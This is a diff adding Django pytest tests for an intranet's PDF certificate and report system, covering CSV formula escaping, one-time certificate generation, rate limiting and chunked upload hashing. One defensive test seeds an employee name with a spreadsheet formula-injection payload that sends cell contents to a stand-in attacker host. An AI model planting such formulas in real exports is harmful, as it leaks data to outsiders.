@@ -2,21 +2,28 @@
 PDF/A identification, "as of", verification, roles and bad input."""
 
 import csv
+import hashlib
 import io
+import json
+import logging
 import re
 import subprocess
+import threading
 from datetime import date, datetime, timedelta
 from zoneinfo import ZoneInfo
 
 import pikepdf
 import pytest
 import time_machine
+from django.core.cache import cache
 from django.core.management import CommandError, call_command
+from django.db import connection
 from django.urls import reverse
 from pypdf import PdfReader
 
-from guidelines import reminders, report_jobs, services
+from guidelines import dashboards, reminders, report_jobs, services
 from guidelines.models import Acknowledgement, AuditEvent, NotificationLog, Report
+from guidelines.views import dashboards as dashboard_views
 
 from .factories import make_employee, make_guideline, publish
 
@@ -34,8 +41,21 @@ def media(settings, tmp_path):
     settings.MEDIA_ROOT = tmp_path / "media"
 
 
+@pytest.fixture(autouse=True)
+def fresh_rate_limits():
+    # The rate limits count in the cache, which outlives a test.
+    cache.clear()
+    yield
+    cache.clear()
+
+
 def text_of(path):
     return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout
+
+
+def words_of(path):
+    """The text with line wraps and layout collapsed to single spaces."""
+    return " ".join(text_of(path).split())
 
 
 def pdf_path(report):
@@ -328,7 +348,7 @@ def test_with_a_configured_key_reports_are_pades_signed_and_say_so(scene, alice,
     from pyhanko_certvalidator import ValidationContext
 
     report = report_jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="en")
-    assert "carries an electronic signature (PAdES)" in text_of(pdf_path(report))
+    assert "carries an electronic signature (PAdES)" in words_of(pdf_path(report))
     with open(pdf_path(report), "rb") as stream:
         signature = PdfFileReader(stream).embedded_signatures[0]
         assert signature.sig_object["/SubFilter"] == "/ETSI.CAdES.detached"
@@ -341,5 +361,165 @@ def test_with_a_configured_key_reports_are_pades_signed_and_say_so(scene, alice,
 
 def test_without_a_key_reports_say_they_are_unsigned(scene, alice):
     report = report_jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="en")
-    assert "not electronically signed" in text_of(pdf_path(report))
+    assert "not electronically signed" in words_of(pdf_path(report))
     assert PdfReader(pdf_path(report)).trailer["/Root"].get("/AcroForm") is None
+
+
+# Spreadsheet formulas in the embedded CSV -----------------------------------------------------------------
+
+
+def test_formula_cells_in_the_embedded_csv_are_prefixed_like_the_dashboard_export(scene, arjen):
+    mallory = make_employee("mallory@example.com", "E0666", department="-2+3")
+    mallory.user.first_name, mallory.user.last_name = "@SUM(A1)", '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    mallory.user.save()  # as the HR import writes them
+    report = generate(arjen)
+    attachments = PdfReader(pdf_path(report)).attachments
+    rows = {row["employee_number"]: row for row in csv.DictReader(io.StringIO(
+        attachments["acknowledgements.csv"][0].decode()))}
+    assert (rows["E0666"]["first_name"], rows["E0666"]["last_name"], rows["E0666"]["department"]) == (
+        "'@SUM(A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'-2+3")
+    assert (rows["E0001"]["first_name"], rows["E0001"]["department"]) == ("Alice", "Operations")  # others untouched
+    manifest = json.loads(attachments["manifest.json"][0].decode())
+    assert manifest["csv_formula_cells"].endswith("prefixed with an apostrophe (')")
+    assert dashboard_views._cell is dashboards.csv_cell  # one function for both CSVs
+    assert [dashboards.csv_cell(text) for text in ("\tx", "\rx", "+x", "x=1", "", "Émile")] == [
+        "'\tx", "'\rx", "'+x", "x=1", "", "Émile"]
+
+
+# A certificate is made once ---------------------------------------------------------------------------------
+
+
+def download(client, url):
+    # Reading a streamed response to the end closes it the way the test client expects.
+    response = client.get(url)
+    return response.status_code, b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def test_a_certificate_is_made_once_and_then_served_as_the_same_file(client_as, scene, alice, hilde, tmp_path):
+    url = reverse("guidelines:report_certificate", args=[scene["ack"].pk])
+    first = download(client_as(hilde), url)
+    again = [download(client_as(alice), url) for _ in range(2)]
+    assert first[0] == 200 and again == [first, first]  # byte for byte
+    report = Report.objects.get(kind=Report.Kind.CERTIFICATE)
+    assert report.sha256 == hashlib.sha256(first[1]).hexdigest() and report.requested_by == hilde
+    assert AuditEvent.objects.filter(action=AuditEvent.Action.REPORT_GENERATED).count() == 1
+    downloads = AuditEvent.objects.filter(action=AuditEvent.Action.REPORT_DOWNLOADED)
+    assert sorted(event.actor.email for event in downloads) == ["alice@example.com", "alice@example.com",
+                                                                "hilde@example.com"]
+    # It names the system as its maker, not whoever asked first.
+    path = tmp_path / "certificate.pdf"
+    path.write_bytes(first[1])
+    text = words_of(path)
+    assert "Generated on" in text and "by the intranet's evidence system" in text
+    assert "Hilde" not in text and "hilde@example.com" not in text
+    with pikepdf.open(path) as document:
+        assert str(document.docinfo["/Author"]) == "the intranet's evidence system"
+    # Another language is another certificate; asking for it again is not.
+    dutch = report_jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="nl")
+    assert report_jobs.certificate(acknowledgement=scene["ack"], user=hilde, language="nl") == dutch != report
+    assert Report.objects.filter(kind=Report.Kind.CERTIFICATE).count() == 2
+
+
+def test_a_certificate_whose_file_is_gone_is_made_again(scene, alice):
+    first = report_jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="en")
+    pdf_path(first).unlink()
+    second = report_jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="en")
+    assert second != first and pdf_path(second).is_file()
+
+
+@pytest.mark.django_db(transaction=True, serialized_rollback=True)
+def test_simultaneous_first_requests_make_one_certificate(scene, alice, hilde):
+    barrier, made, errors = threading.Barrier(3), [], []
+
+    def ask(user):
+        try:
+            barrier.wait()
+            made.append(report_jobs.certificate(acknowledgement=scene["ack"], user=user, language="en").pk)
+        except Exception as error:  # reported below
+            errors.append(error)
+        finally:
+            connection.close()
+
+    threads = [threading.Thread(target=ask, args=(user,)) for user in (alice.user, hilde, alice.user)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert errors == [] and len(made) == 3 and len(set(made)) == 1
+    assert Report.objects.filter(kind=Report.Kind.CERTIFICATE).count() == 1
+    assert AuditEvent.objects.filter(action=AuditEvent.Action.REPORT_GENERATED).count() == 1
+
+
+# Rate limits -----------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def security_log(caplog):
+    caplog.set_level(logging.INFO, logger="security")
+
+    def events(name):
+        entries = [json.loads(record.getMessage()) for record in caplog.records if record.name == "security"]
+        return [entry for entry in entries if entry["event"] == name]
+
+    return events
+
+
+def test_certificates_are_rate_limited_per_user_with_a_429_page(client_as, scene, alice, arjen, settings,
+                                                                security_log):
+    settings.REPORT_RATE_LIMITS = {**settings.REPORT_RATE_LIMITS, "download": (2, 600)}
+    url = reverse("guidelines:report_certificate", args=[scene["ack"].pk])
+    with time_machine.travel(at(date(2027, 3, 10), 12), tick=False):
+        client = client_as(alice)
+        assert [download(client, url)[0] for _ in range(2)] == [200, 200]
+        refused = client.get(url)
+        assert [download(client_as(arjen), url)[0] for _ in range(2)] == [200, 200]  # per user
+    assert refused.status_code == 429 and refused["Retry-After"] == "600"
+    page = refused.content.decode()
+    assert "Too many requests" in page and "Please try again after 12:10." in page
+    [entry] = security_log("rate_limited")
+    assert entry["username"] == "alice@example.com" and entry["outcome"] == "denied"
+    assert entry["details"]["bucket"] == "download" and entry["details"]["limit"] == 2
+    assert AuditEvent.objects.filter(action=AuditEvent.Action.REPORT_DOWNLOADED, actor=alice.user).count() == 2
+    with time_machine.travel(at(date(2027, 3, 10), 12) + timedelta(minutes=10), tick=False):
+        assert download(client_as(alice), url)[0] == 200  # the next window
+
+
+def test_auditor_packs_and_downloads_are_rate_limited(client_as, scene, arjen, settings, security_log):
+    settings.REPORT_RATE_LIMITS = {"generate": (1, 3600), "download": (1, 600)}
+    choices = {"guideline": "social-media", "version": "1.0", "language": "en"}
+    with time_machine.travel(at(date(2027, 3, 10), 12), tick=False):
+        client = client_as(arjen)
+        first = client.post(reverse("guidelines:report_pack"), choices)
+        second = client.post(reverse("guidelines:report_pack"), choices)
+        code = Report.objects.get().verification_code
+        downloads = [download(client, reverse("guidelines:report_download", args=[code]))[0] for _ in range(2)]
+    assert first.status_code == 200 and b"".join(first.streaming_content).startswith(b"%PDF-")
+    assert second.status_code == 429 and "Too many requests" in second.content.decode()
+    assert Report.objects.count() == 1  # the refused request made nothing
+    assert downloads == [200, 429]
+    assert [entry["details"]["bucket"] for entry in security_log("rate_limited")] == ["generate", "download"]
+
+
+# Verification of large uploads ----------------------------------------------------------------------------
+
+
+def test_verification_hashes_a_large_upload_in_chunks_and_reads_its_code_from_the_file(
+        client_as, scene, arjen, monkeypatch):
+    from django.core.files.uploadedfile import TemporaryUploadedFile
+
+    report = generate(arjen)
+    # Over FILE_UPLOAD_MAX_MEMORY_SIZE (2.5 MB), so Django keeps it in a temporary file.
+    content = pdf_path(report).read_bytes() + b"%" + b"x" * (3 * 1024 * 1024) + b"\n"
+    reads = []
+
+    def spying_read(self):
+        def read(*size):
+            reads.append(size)
+            return self.file.read(*size)
+        return read
+
+    monkeypatch.setattr(TemporaryUploadedFile, "read", property(spying_read))
+    page = upload(client_as(arjen), content).content.decode()
+    assert "Altered" in page and report.verification_code in page  # pikepdf read the claim from the file
+    assert hashlib.sha256(content).hexdigest() in page
+    assert reads and all(len(size) == 1 and 0 < size[0] <= 64 * 1024 for size in reads)  # never all at once
